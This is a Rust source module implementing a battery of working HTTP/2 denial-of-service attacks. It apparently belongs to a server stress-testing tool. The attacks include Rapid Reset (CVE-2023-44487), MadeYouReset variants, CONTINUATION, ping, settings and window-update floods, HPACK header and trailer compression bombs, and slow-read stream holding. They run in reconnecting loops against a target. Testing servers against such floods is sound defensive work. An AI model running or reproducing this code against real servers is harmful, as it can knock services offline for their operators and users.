//! Attacks within HTTP/2.

use std::time::{Duration, Instant};

use super::{Attack, Course, Words};
use crate::http2::{
    connection::{Came, Connection, Target, preface},
    fields::{indexed, kept, literal},
    frame::{
        CONTINUATION, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PRIORITY, RST_STREAM, WHOLE, WINDOW_UPDATE, data,
        frame, number, ping, settings,
    },
};

/// How long an attacker waits for a server that does not take its bytes.
const PATIENCE: Duration = Duration::from_secs(2);
/// Frames of one kind that are sent in one piece.
const BATCH: u32 = 100;
/// The first index of the dynamic table (RFC 7541, section 2.3.3).
const FIRST: usize = 62;

/// Returns all of them.
#[must_use]
pub fn attacks() -> Vec<Attack> {
    let of = |(name, attackers, run)| Attack { name, has_streams: true, attackers, run };
    let floods: [Words; 21] = [
        ("rapid reset (CVE-2023-44487)", 4, |t, c| floods(t, c, &[], |_, at| rapid_reset(t, at))),
        ("made you reset by a window (CVE-2025-8671)", 4, |t, c| {
            floods(t, c, &[], |_, at| made_you_reset(t, at, &|s| number(WINDOW_UPDATE, s, 0)))
        }),
        ("made you reset by a length", 4, |t, c| {
            floods(t, c, &[], |_, at| made_you_reset(t, at, &|s| data(END_STREAM, s, b"too long")))
        }),
        ("made you reset by a frame too short", 4, |t, c| {
            floods(t, c, &[], |_, at| made_you_reset(t, at, &|s| frame(PRIORITY, 0, s, b"")))
        }),
        ("malformed requests", 4, |t, c| floods(t, c, &[], |_, at| many(at, |s| t.get(s, &[("connection", "close")])))),
        ("continuation flood", 4, |t, c| {
            floods(t, c, &[], |_, at| continuation(t, at, &literal(b"x", &[b'a'; 1_000])))
        }),
        ("empty continuation frames", 4, |t, c| floods(t, c, &[], |_, at| continuation(t, at, b""))),
        ("empty data frames", 4, |t, c| floods(t, c, &[], |_, at| begun(at, t.post(1, &[]), data(0, 1, b"")))),
        ("padded data frames", 4, |t, c| {
            floods(t, c, &[], |_, at| begun(at, t.post(1, &[]), data(8, 1, &[&[254], &[0; 254][..]].concat())))
        }),
        ("settings flood", 4, |t, c| {
            floods(t, c, &[], |_, _| settings(&[(INITIAL_WINDOW_SIZE, 65_535)]).repeat(BATCH as usize))
        }),
        ("empty settings flood", 4, |t, c| floods(t, c, &[], |_, _| settings(&[]).repeat(BATCH as usize))),
        ("ping flood", 4, |t, c| floods(t, c, &[], |_, _| ping(0).repeat(BATCH as usize))),
        ("priority flood", 4, |t, c| floods(t, c, &[], |_, at| many(at, |s| frame(PRIORITY, 0, s, &[0, 0, 0, 0, 1])))),
        ("window update flood", 4, |t, c| {
            floods(t, c, &[], |_, at| begun(at, t.post(1, &[]), number(WINDOW_UPDATE, 1, 1)))
        }),
        ("unknown frames", 4, |t, c| floods(t, c, &[], |_, _| frame(0xbe, 0, 0, b"").repeat(BATCH as usize))),
        ("header bomb of a kept field", 4, |t, c| floods(t, c, &[], |_, at| bomb(t, at))),
        ("trailer bomb of a kept field", 4, |t, c| floods(t, c, &[], |_, at| trailer_bomb(t, at))),
        ("names of a kept field", 4, |t, c| floods(t, c, &[], |_, at| names_bomb(t, at))),
        ("zero windows", 20, |t, c| holds(t, c, &[(INITIAL_WINDOW_SIZE, 0)], 100, "/bytes/1000000", 0)),
        ("windows of one byte", 20, |t, c| holds(t, c, &[(INITIAL_WINDOW_SIZE, 1)], 100, "/bytes/1000000", 1)),
        ("bodies that never come", 20, |t, c| holds(t, c, &[], 100, "", 0)),
    ];
    floods.into_iter().map(of).collect()
}

/// Sends what `more` makes for each turn as fast as the server takes it, over a new connection
/// whenever the last one has ended. What the server says is read but not obeyed.
fn floods(target: &Target, course: &Course, more: &[(u16, u32)], make: impl Fn(&Target, u32) -> Vec<u8>) {
    while course.goes_on() {
        let Some(mut connection) = opened(target, course, more) else { continue };
        let (mut at, mut how) = (0, None);
        while how.is_none() && course.goes_on() && at < 0x3fff_ffff / BATCH {
            let is_sent = connection.send(&make(target, at)).is_ok();
            at += 1;
            course.count(u64::from(BATCH));
            how = said(&mut connection, if is_sent { Instant::now() } else { Instant::now() + PATIENCE });
            how = how.or((!is_sent).then(|| "no room".to_owned()));
        }
        course.ended(how.as_deref().unwrap_or("never"));
    }
}

fn opened(target: &Target, course: &Course, more: &[(u16, u32)]) -> Option<Connection> {
    let mut connection = target.connect(PATIENCE).ok();
    if connection.as_mut().is_none_or(|connection| connection.send(&preface(more)).is_err()) {
        course.ended("refused");
        std::thread::sleep(PAUSE);
        return None;
    }
    connection
}

/// A refused attacker comes back after this long.
const PAUSE: Duration = Duration::from_millis(2);

/// Reads all that is there; the end, if it has come.
fn said(connection: &mut Connection, until: Instant) -> Option<String> {
    loop {
        // A little more than nothing: what is there has to be read.
        match connection.next(until + Duration::from_micros(1)) {
            Came::Frame(frame) if frame.kind == crate::http2::frame::GOAWAY => {
                return Some(format!("goaway {}", crate::http2::frame::error_name(frame.number(4))));
            }
            Came::Frame(_) => {}
            Came::End => return Some("close".into()),
            Came::Nothing => return None,
        }
    }
}

/// A frame for each of the next streams.
fn many(at: u32, one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..BATCH).flat_map(|number| one((at * BATCH + number) * 2 + 1)).collect()
}

fn rapid_reset(target: &Target, at: u32) -> Vec<u8> {
    many(at, |stream| [target.get(stream, &[]), number(RST_STREAM, stream, 8)].concat())
}

fn made_you_reset(target: &Target, at: u32, wrong: &dyn Fn(u32) -> Vec<u8>) -> Vec<u8> {
    many(at, |stream| [target.post(stream, &[("content-length", "1")]), wrong(stream)].concat())
}

/// The first turn begins a stream; each sends a frame again and again.
fn begun(at: u32, first: Vec<u8>, again: Vec<u8>) -> Vec<u8> {
    let first = if at == 0 { first } else { Vec::new() };
    [first, again.repeat(BATCH as usize)].concat()
}

fn continuation(target: &Target, at: u32, part: &[u8]) -> Vec<u8> {
    begun(at, frame(HEADERS, END_STREAM, 1, &target.fields("GET", "/", &[])), frame(CONTINUATION, 0, 1, part))
}

/// A field of 3 KiB enters the table once, and is then named by one byte each: 16 KiB of a block
/// are 48 MiB of fields.
fn bomb(target: &Target, at: u32) -> Vec<u8> {
    let block = |stream: u32| {
        let first = if stream == 1 { kept(b"x", &[b'a'; 3_000]) } else { Vec::new() };
        frame(HEADERS, WHOLE, stream, &[target.fields("GET", "/", &[]), first, indexed(FIRST).repeat(10_000)].concat())
    };
    (0..4).flat_map(|number| block((at * 4 + number) * 2 + 1)).collect()
}

/// A block in frames that every server takes.
fn block(stream: u32, block: &[u8]) -> Vec<u8> {
    const FRAME_BYTES: usize = 16_384;
    let mut parts = block.chunks(FRAME_BYTES).peekable();
    let first = parts.next().unwrap_or_default();
    let last = |parts: &mut std::iter::Peekable<std::slice::Chunks<'_, u8>>| if parts.peek().is_none() { 4 } else { 0 };
    let mut out = frame(HEADERS, END_STREAM | last(&mut parts), stream, first);
    while let Some(part) = parts.next() {
        out.extend(frame(CONTINUATION, last(&mut parts), stream, part));
    }
    out
}

/// The same in trailers, which may be looked at by others than heads are: 60 KiB of them are 230
/// MiB.
fn trailer_bomb(target: &Target, at: u32) -> Vec<u8> {
    let stream = at * 2 + 1;
    let first = if at == 0 { kept(b"x", &[b'a'; 3_900]) } else { Vec::new() };
    let head = frame(HEADERS, 4, stream, &[target.fields("POST", "/", &[]), first].concat());
    [head, block(stream, &indexed(FIRST).repeat(60_000))].concat()
}

/// A name of 3 KiB that enters the table once, and then names 20,000 fields in three bytes each.
fn names_bomb(target: &Target, at: u32) -> Vec<u8> {
    let stream = at * 2 + 1;
    let first = if at == 0 { kept(&[b'a'; 3_900], b"") } else { Vec::new() };
    let field = [0x0f, 0x2f, 0];
    block(stream, &[target.fields("GET", "/", &[]), first, field.repeat(20_000)].concat())
}

/// Opens streams and keeps them, each connection as long as the server does. With a path they ask
/// for it and open their windows by `drip` bytes at a time; without one they send no body.
fn holds(target: &Target, course: &Course, more: &[(u16, u32)], streams: u32, path: &str, drip: u32) {
    let numbers = (0..streams).map(|at| at * 2 + 1);
    while course.goes_on() {
        let Some(mut connection) = opened(target, course, more) else { continue };
        let ask = |stream| {
            let block = target.fields(
                if path.is_empty() { "POST" } else { "GET" },
                if path.is_empty() { "/" } else { path },
                &[],
            );
            frame(HEADERS, if path.is_empty() { 4 } else { WHOLE }, stream, &block)
        };
        let _ = connection.send(&numbers.clone().flat_map(ask).collect::<Vec<_>>());
        course.count(u64::from(streams));
        let mut how = None;
        while how.is_none() && course.goes_on() {
            how = said(&mut connection, Instant::now() + Duration::from_millis(20));
            if drip > 0
                && connection
                    .send(&numbers.clone().flat_map(|s| number(WINDOW_UPDATE, s, drip)).collect::<Vec<_>>())
                    .is_err()
            {
                how = how.or_else(|| Some("close".into()));
            }
        }
        course.ended(how.as_deref().unwrap_or("never"));
    }
}
